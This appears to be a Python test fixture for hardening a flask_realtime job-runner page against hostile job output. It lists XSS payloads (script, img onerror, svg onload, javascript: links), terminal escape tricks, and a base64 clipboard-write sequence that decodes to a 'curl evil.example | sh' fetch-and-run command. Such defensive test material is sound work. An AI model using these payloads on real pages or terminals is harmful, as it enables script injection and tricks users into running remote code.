"""Jobs the hardening tests start (loaded with JOBS=tests.hardening.jobs_for_hardening).

Named ``hx_*``: jobs register in one process-wide registry shared with other test modules.
"""

from __future__ import annotations

import sys
import time
from typing import Annotated, Any

from flask_realtime import Range, Running, job

ESC = "\x1b"
BEL = "\x07"

#: Output a job may print to attack the page: markup, and terminal escapes that a real
#: terminal would turn into links, clipboard writes, window titles or hidden text.
HOSTILE_OUTPUT = [
    "<h1 id=hx-injected>big</h1><b>bold?</b> &amp; &lt;not an entity&gt;",
    "<script>window.__pwned = 'script'; alert('script')</script>",
    "</script><script>window.__pwned = 'close-script'</script>",
    "<img id=hx-img src=x onerror=\"window.__pwned = 'img'; alert('img')\">",
    "<svg onload=\"window.__pwned = 'svg'\"></svg><iframe src=javascript:alert(1)></iframe>",
    f"{ESC}]8;;javascript:window.__pwned='osc8'{ESC}\\osc8-link-text{ESC}]8;;{ESC}\\",
    f"{ESC}]8;;https://evil.example/{BEL}osc8-bel-link{ESC}]8;;{BEL}",
    f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}after-osc52",
    f"{ESC}]0;hx-pwned-title{BEL}after-title-0",
    f"{ESC}]2;hx-pwned-title{ESC}\\after-title-2",
    f"{ESC}[8mconcealed-secret{ESC}[0m visible",
    f"{ESC}[30;40mblack-on-black{ESC}[0m {ESC}[2Kerase-line {ESC}[1Aup-one",
    f"{ESC}P+q544e{ESC}\\after-dcs {ESC}[?1049hmaybe-alt-screen{ESC}[?1049l",
    "javascript:alert('plain text link')",
]

#: A result table whose keys and values are markup.
HOSTILE_TABLE = [
    {"<b>name</b>": "<img src=x onerror=\"window.__pwned = 'table-img'\">",
     "<script>window.__pwned = 'th'</script>": "<a href=javascript:alert(1)>a</a>"},
    {"<b>name</b>": "</td></tr></table><script>window.__pwned = 'td'</script>",
     "<script>window.__pwned = 'th'</script>": {"<i>nested</i>": "<u>x</u>"}},
]


@job(name="hx_hostile", title="<img src=x onerror=\"window.__pwned = 'title'\">Hostile")
def hostile(running: Running, note: str = "<svg onload=alert(1)>") -> Any:
    """Prints markup and terminal escape tricks; returns a table of markup."""
    for text in HOSTILE_OUTPUT:
        print(text)
    print(note, file=sys.stderr)
    return HOSTILE_TABLE


@job(name="hx_flood")
def flood(
    running: Running,
    lines: Annotated[int, Range(0, 100_000_000)] = 100_000,
    width: Annotated[int, Range(1, 10_000)] = 60,
    rate: Annotated[int, Range(0, 1_000_000)] = 0,
) -> int:
    """``lines`` numbered lines, as fast as possible (rate 0) or ``rate`` a second."""
    pad = "x" * max(width - 9, 0)
    start = time.perf_counter()
    for i in range(1, lines + 1):
        if not running():
            return i - 1
        if rate and i % 100 == 0:
            delay = start + i / rate - time.perf_counter()
            if delay > 0:
                time.sleep(delay)
        print(f"{i:08d} {pad}")
    return lines


@job(name="hx_echo")
def echo(running: Running, text: str = "") -> str:
    """Print ``text`` and return it."""
    print(text)
    return text
